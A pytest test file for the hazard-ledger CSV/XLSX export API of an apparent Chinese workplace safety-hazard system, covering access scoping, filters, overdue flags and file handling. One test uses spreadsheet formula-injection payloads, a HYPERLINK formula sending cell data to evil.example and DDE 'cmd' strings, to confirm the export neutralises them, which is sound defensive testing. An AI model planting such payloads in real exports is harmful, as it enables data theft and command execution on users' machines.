"""隐患台账 export: GET /api/v1/hazards/ledger?format=xlsx|csv."""

import codecs
import csv
import io
import os
import zipfile
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from httpx import Response
from openpyxl import load_workbook
from sqlalchemy import event

from app.core.config import get_settings
from app.services.hazards import ledger as ledger_service
from tests.api.helpers import PLAN, act, in_days, ok, report

HEADERS = ["隐患编号", "隐患名称", "隐患等级", "状态", "企业名称", "统一社会信用代码", "所属乡镇",
           "行业", "隐患位置", "上报时间", "上报人角色", "整改期限", "是否超期", "判定依据",
           "销号时间", "整改资金（元）"]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CLAUSE = "工贸行业重大事故隐患判定标准 第四条第（一）项"


def ledger(client, auth, username: str = "ent_a", fmt: str = "csv", **params: Any) -> Response:
    response = client.get("/api/v1/hazards/ledger", params={"format": fmt, **params},
                          headers=auth(username))
    assert response.status_code == 200, response.text
    return response


def csv_table(response: Response) -> list[list[str]]:
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(codecs.BOM_UTF8)
    text = response.content[len(codecs.BOM_UTF8):].decode("utf-8")
    return list(csv.reader(io.StringIO(text, newline="")))


def csv_rows(response: Response) -> dict[str, dict[str, str]]:
    """Rows by hazard code, each as {header: text}."""
    header, *rows = csv_table(response)
    assert header == HEADERS
    return {row[0]: dict(zip(header, row, strict=True)) for row in rows}


def xlsx_table(response: Response) -> list[list[Any]]:
    assert response.headers["content-type"] == XLSX
    workbook = load_workbook(io.BytesIO(response.content), read_only=True)
    assert workbook.sheetnames == ["隐患台账"]
    # read-only mode drops a row's trailing empty cells
    rows = [list(row) + [None] * (len(HEADERS) - len(row))
            for row in workbook["隐患台账"].iter_rows(values_only=True)]
    workbook.close()
    return rows


def codes(rows: dict[str, dict[str, str]]) -> set[str]:
    return set(rows)


def list_codes(client, auth, username: str, **params: Any) -> set[str]:
    response = client.get("/api/v1/hazards", params={"limit": 200, **params},
                          headers=auth(username))
    assert response.status_code == 200, response.text
    return {item["code"] for item in response.json()["items"]}


def me(client, auth, username: str) -> dict[str, Any]:
    return client.get("/api/v1/me", headers=auth(username)).json()


def closed_major(client, auth, clock) -> dict[str, Any]:
    """A major hazard of ent_a reported by insp_dept, planned, and closed 5.5 hours later."""
    hazard = report(client, auth, "insp_dept", level="major", title="冲压机防护罩缺失",
                    enterprise_id=me(client, auth, "ent_a")["enterprise_id"],
                    major_clause=CLAUSE)
    hid = hazard["id"]
    ok(act(client, auth, "anweiban", hid, "assign", {"deadline": in_days(30)}))
    ok(act(client, auth, "ent_a", hid, "accept", PLAN))
    ok(act(client, auth, "ent_a", hid, "submit", {"note": "已更换"}, photos=1))
    ok(act(client, auth, "insp_dept", hid, "verify", {"note": "合格"}, photos=1))
    ok(act(client, auth, "anweiban", hid, "spot_check", {"note": "合格"}, photos=1))
    clock.advance(timedelta(hours=5, minutes=30))
    return ok(act(client, auth, "anweiban", hid, "close", {"note": "同意销号"}))


def test_csv_has_bom_chinese_headers_and_only_the_callers_hazards(client, auth) -> None:
    a = report(client, auth, "ent_a")
    b = report(client, auth, "ent_b")
    response = ledger(client, auth, "ent_a")
    name = quote("隐患台账-20261123.csv", safe="")
    assert response.headers["content-disposition"] == (
        f"attachment; filename=\"hazard-ledger-20261123.csv\"; filename*=UTF-8''{name}")
    assert response.headers["content-length"] == str(len(response.content))
    assert response.content.startswith(codecs.BOM_UTF8 + "隐患编号,隐患名称".encode())
    rows = csv_rows(response)
    assert a["code"] in rows and b["code"] not in rows
    assert rows[a["code"]] == {
        "隐患编号": a["code"], "隐患名称": "配电箱未接地", "隐患等级": "一般", "状态": "已上报",
        "企业名称": "演示机械制造有限公司", "统一社会信用代码": "91339901MA2B00001F",
        "所属乡镇": "城关镇", "行业": "机械", "隐患位置": "二号车间东侧",
        "上报时间": "2026-11-23 10:00", "上报人角色": "企业", "整改期限": "", "是否超期": "否",
        "判定依据": "", "销号时间": "", "整改资金（元）": "",
    }
    assert b["code"] in csv_rows(ledger(client, auth, "ent_b"))
    # Asking for the other enterprise's hazards by id reveals nothing.
    assert csv_rows(ledger(client, auth, "ent_a", enterprise_id=b["enterprise_id"])) == {}


def test_same_filters_and_scope_as_the_hazard_list(client, auth) -> None:
    ent_a_id = me(client, auth, "ent_a")["enterprise_id"]
    general = report(client, auth, "ent_a", title="消防通道堵塞")
    major = report(client, auth, "insp_dept", level="major", enterprise_id=ent_a_id,
                   major_clause=CLAUSE)
    other = report(client, auth, "ent_b", location="仓库")
    rejected = report(client, auth, "ent_b")
    assigned = ok(act(client, auth, "insp_dept", other["id"], "assign",
                      {"deadline": in_days(5)}))
    ok(act(client, auth, "insp_dept", rejected["id"], "reject", {"reason": "重复上报"}))
    department = next(a["party_id"] for a in assigned["assignments"]
                      if a["party_type"] == "unit")
    filter_sets: list[dict[str, Any]] = [
        {}, {"level": "major"}, {"level": "general"}, {"state": "assigned"},
        {"state": "rejected"}, {"q": "消防"}, {"q": "仓库"}, {"q": "%"},
        {"enterprise_id": ent_a_id}, {"enterprise_id": other["enterprise_id"]},
        {"region_id": general["region_id"]}, {"region_id": other["region_id"]},
        {"unit_id": department}, {"overdue": "false"}, {"overdue": "true"},
        {"level": "major", "enterprise_id": ent_a_id}, {"enterprise_id": 2**31},
    ]
    seen: set[str] = set()
    for username in ("ent_a", "ent_b", "insp_dept", "insp_town", "anweiban", "admin"):
        for params in filter_sets:
            exported = codes(csv_rows(ledger(client, auth, username, **params)))
            assert exported == list_codes(client, auth, username, **params), (username, params)
            seen |= exported
    assert {general["code"], major["code"], other["code"], rejected["code"]} <= seen
    assert codes(csv_rows(ledger(client, auth, "ent_a", level="major"))) == {major["code"]}
    assert codes(csv_rows(ledger(client, auth, "anweiban", state="rejected"))) == {
        rejected["code"]}


def test_overdue_column_follows_the_clock(client, auth, clock) -> None:
    hid = report(client, auth, "ent_a")["id"]
    code = ok(act(client, auth, "insp_dept", hid, "assign", {"deadline": in_days(2)}))["code"]
    ok(act(client, auth, "ent_a", hid, "accept"))
    row = csv_rows(ledger(client, auth))[code]
    assert (row["状态"], row["整改期限"], row["是否超期"]) == ("整改中", in_days(2), "否")

    clock.advance(timedelta(days=2))  # the deadline is today: not yet overdue
    assert csv_rows(ledger(client, auth))[code]["是否超期"] == "否"
    clock.advance(timedelta(days=1))
    assert csv_rows(ledger(client, auth))[code]["是否超期"] == "是"
    assert code in csv_rows(ledger(client, auth, overdue="true"))
    assert code not in csv_rows(ledger(client, auth, overdue="false"))
    listed = client.get(f"/api/v1/hazards/{hid}", headers=auth("ent_a")).json()
    assert listed["overdue"] is True
    # The XLSX file says the same.
    header, *rows = xlsx_table(ledger(client, auth, fmt="xlsx"))
    assert dict(zip(header, next(r for r in rows if r[0] == code), strict=True))["是否超期"] == "是"


def test_closed_major_hazard_shows_write_off_time_funds_and_clause(client, auth, clock) -> None:
    closed = closed_major(client, auth, clock)
    row = csv_rows(ledger(client, auth, "anweiban", state="closed"))[closed["code"]]
    assert row["隐患等级"] == "重大"
    assert row["状态"] == "已销号"
    assert row["上报人角色"] == "监管人员"
    assert row["判定依据"] == CLAUSE
    assert row["上报时间"] == "2026-11-23 10:00"
    assert row["销号时间"] == "2026-11-23 15:30"
    assert row["整改资金（元）"] == "85000"
    assert row["整改期限"] == in_days(30)
    assert row["是否超期"] == "否"


def test_xlsx_has_the_same_headers_and_rows_as_the_csv(client, auth, clock) -> None:
    closed = closed_major(client, auth, clock)
    open_one = report(client, auth, "ent_a", location="-5米深基坑")
    ok(act(client, auth, "insp_dept", open_one["id"], "assign", {"deadline": in_days(4)}))
    response = ledger(client, auth, "anweiban", fmt="xlsx")
    name = quote("隐患台账-20261123.xlsx", safe="")
    assert response.headers["content-disposition"] == (
        f"attachment; filename=\"hazard-ledger-20261123.xlsx\"; filename*=UTF-8''{name}")
    header, *rows = xlsx_table(response)
    assert header == HEADERS
    csv_header, *csv_body = csv_table(ledger(client, auth, "anweiban"))
    assert csv_header == header
    assert [as_csv_text(row) for row in rows] == csv_body
    by_code = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
    # Typed cells: times and dates are Excel dates, funds a number.
    major = by_code[closed["code"]]
    assert major["上报时间"] == datetime(2026, 11, 23, 10, 0)
    assert major["销号时间"] == datetime(2026, 11, 23, 15, 30)
    assert major["整改期限"] == datetime(2026, 12, 23, 0, 0)
    assert major["整改资金（元）"] == 85000
    assert by_code[open_one["code"]]["隐患位置"] == "-5米深基坑"  # no apostrophe in a typed cell


def as_csv_text(row: list[Any]) -> list[str]:
    """An XLSX row as the CSV writes it (dates, numbers and the formula guard)."""
    texts = []
    for header, value in zip(HEADERS, row, strict=True):
        if value is None:
            texts.append("")
        elif isinstance(value, datetime):
            texts.append(value.date().isoformat() if header == "整改期限"
                         else value.strftime("%Y-%m-%d %H:%M"))
        elif isinstance(value, int | float):
            texts.append(f"{Decimal(str(value)).normalize():f}")
        else:
            texts.append(ledger_service.defuse_formula(value))
    return texts


DANGEROUS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "location": "+cmd|' /C calc'!A0",
    "description": "正常描述",
    "major_clause": "@SUM(1+1)*cmd|' /C calc'!A0",
}


def test_formula_injection_is_neutralised(client, auth) -> None:
    hazard = report(client, auth, "ent_a", **DANGEROUS)
    minus = report(client, auth, "ent_a", title="-2+3+cmd|' /C calc'!A0")
    rows = csv_rows(ledger(client, auth))
    row = rows[hazard["code"]]
    assert row["隐患名称"] == "'" + DANGEROUS["title"]
    assert row["隐患位置"] == "'" + DANGEROUS["location"]
    assert row["判定依据"] == "'" + DANGEROUS["major_clause"]
    assert rows[minus["code"]]["隐患名称"] == "'-2+3+cmd|' /C calc'!A0"

    response = ledger(client, auth, fmt="xlsx")
    # In the XLSX file they are string cells, shown as typed and never evaluated.
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    workbook = load_workbook(io.BytesIO(response.content), read_only=True)
    cells = {row[0].value: row for row in workbook["隐患台账"].iter_rows()}
    title_cell = cells[hazard["code"]][1]
    assert (title_cell.value, title_cell.data_type) == (DANGEROUS["title"], "s")
    workbook.close()


def test_xlsx_survives_control_characters(client, auth) -> None:
    """XML cannot hold most control characters; they are dropped from the XLSX, not a 500."""
    hazard = report(client, auth, "ent_a", title="配电箱\x07未接地\x1b")
    _header, *rows = xlsx_table(ledger(client, auth, fmt="xlsx"))
    assert next(r for r in rows if r[0] == hazard["code"])[1] == "配电箱未接地"
    assert csv_rows(ledger(client, auth))[hazard["code"]]["隐患名称"] == "配电箱\x07未接地\x1b"


def test_needs_a_token_and_a_known_format(client, auth) -> None:
    for fmt in ("csv", "xlsx"):
        response = client.get("/api/v1/hazards/ledger", params={"format": fmt})
        assert response.status_code == 401
    response = client.get("/api/v1/hazards/ledger", params={"format": "pdf"},
                          headers=auth("ent_a"))
    assert response.status_code == 422
    # XLSX is the default.
    default = client.get("/api/v1/hazards/ledger", headers=auth("ent_a"))
    assert default.status_code == 200
    assert default.headers["content-type"] == XLSX


def test_ledger_path_is_not_taken_for_a_hazard_id(client, auth) -> None:
    """The ledger router comes before /hazards/{hazard_id}, which would answer 422 for it."""
    hazard = report(client, auth, "ent_a")
    exported = client.get("/api/v1/hazards/ledger", headers=auth("ent_a"))
    assert exported.status_code == 200 and exported.content.startswith(b"PK")
    assert ok(client.get(f"/api/v1/hazards/{hazard['id']}", headers=auth("ent_a")))["code"] == (
        hazard["code"])
    assert client.get(f"/api/v1/hazards/{hazard['id']}/events",
                      headers=auth("ent_a")).status_code == 200
    assert client.get("/api/v1/hazards/999999", headers=auth("ent_a")).status_code == 404


def test_one_query_for_any_number_of_rows(client, auth, engine, monkeypatch) -> None:
    """Batches of 2 rows (several round trips), yet the statements do not grow with the rows."""
    monkeypatch.setattr(ledger_service, "BATCH", 2)
    statements: list[str] = []

    def record(_conn, _cursor, statement, *_args) -> None:
        statements.append(statement)

    def count_statements(fmt: str) -> tuple[int, int]:
        statements.clear()
        event.listen(engine, "before_cursor_execute", record)
        try:
            response = ledger(client, auth, "anweiban", fmt=fmt)
        finally:
            event.remove(engine, "before_cursor_execute", record)
        table = csv_table(response) if fmt == "csv" else xlsx_table(response)
        return len(table) - 1, len(statements)

    report(client, auth, "ent_a")
    report(client, auth, "ent_b")
    for fmt in ("csv", "xlsx"):
        few_rows, few = count_statements(fmt)
        for _ in range(5):
            report(client, auth, "ent_a")
        many_rows, many = count_statements(fmt)
        assert many_rows == few_rows + 5
        assert many == few, statements


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="needs /proc")
def test_the_temporary_file_is_gone_after_the_download(client, auth) -> None:
    report(client, auth, "ent_a")
    staging = str((get_settings().media_root / "staging").resolve())

    def open_spools() -> list[str]:
        targets = []
        for fd in os.listdir("/proc/self/fd"):
            try:
                targets.append(os.readlink(f"/proc/self/fd/{fd}"))
            except OSError:
                continue
        return [t for t in targets if t.startswith(staging)]

    before = open_spools()
    for fmt in ("csv", "xlsx"):
        ledger(client, auth, fmt=fmt)
    assert open_spools() == before
    assert not any(Path(staging).glob("ledger-*"))


def test_today_in_the_file_name_is_local(client, auth, clock) -> None:
    clock.advance(timedelta(hours=14))  # 16:00 UTC on the 23rd is 00:00 on the 24th in Shanghai
    assert clock.now().date() == date(2026, 11, 23)
    response = ledger(client, auth)
    assert 'filename="hazard-ledger-20261124.csv"' in response.headers["content-disposition"]


def test_xlsx_is_written_after_the_transaction(client, auth, db, monkeypatch) -> None:
    """openpyxl is slow (bench/bench_ledger.py): on SQLite the transaction holds the write lock,
    so only the rows are read inside it and the workbook is written once it has ended."""
    report(client, auth, "ent_a")
    reading: list[Any] = []
    writing: list[tuple[bool, bool]] = []
    spool_rows, write_xlsx = ledger_service.spool_rows, ledger_service.write_xlsx

    def spy_read(session, **kwargs) -> int:
        count = spool_rows(session, **kwargs)
        reading.append(session.get_transaction())
        return count

    def spy_write(rows, out) -> int:
        writing.append((reading[0].is_active, db.in_transaction()))
        return write_xlsx(rows, out)

    monkeypatch.setattr(ledger_service, "spool_rows", spy_read)
    monkeypatch.setattr(ledger_service, "write_xlsx", spy_write)
    assert len(xlsx_table(ledger(client, auth, fmt="xlsx"))) == 2
    assert reading[0] is not None  # the rows were read in the request's transaction
    assert writing == [(False, False)]  # which had ended when the workbook was written


def test_more_rows_than_excel_holds_is_refused_before_writing(client, auth, monkeypatch) -> None:
    monkeypatch.setattr(ledger_service, "XLSX_MAX_ROWS", 1)
    report(client, auth, "ent_a")
    assert len(xlsx_table(ledger(client, auth, fmt="xlsx"))) == 2
    report(client, auth, "ent_a")
    response = client.get("/api/v1/hazards/ledger", params={"format": "xlsx"},
                          headers=auth("ent_a"))
    assert response.status_code == 422
    assert "CSV" in response.json()["detail"]
    assert len(csv_table(ledger(client, auth, fmt="csv"))) == 3  # CSV has no such limit
